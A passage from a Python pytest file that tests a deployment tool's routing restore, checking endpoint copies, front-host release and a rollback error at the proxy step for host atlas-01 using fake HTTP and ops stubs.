    assert http.copies[0] == http.endpoints and http.copies[1] == http.endpoints

    # nothing left behind: released, nothing restarted
    inv, _, new, ops = _deploy_setup(tmp_path)
    http = FakeHttp()
    _deploy(inv, new, ops, http).run()
    assert http.front_log == ["release 0", "release 1"] and ("reload_proxy", "atlas-01") not in ops.calls

    # copies that come back without the endpoints: the deploy fails at step proxy and rolls back
    inv, _, new, ops = _deploy_setup(tmp_path)
    http = FakeHttp()
    deployer = _deploy(inv, new, ops, http)
    ops.on_reload = None
    http.copies[1] = {}
    with pytest.raises(HostError, match="router copies still lack endpoints") as exc:
        deployer._restore_routing(timeout=0.5)
    assert (exc.value.host, exc.value.step) == ("atlas-01", "proxy")
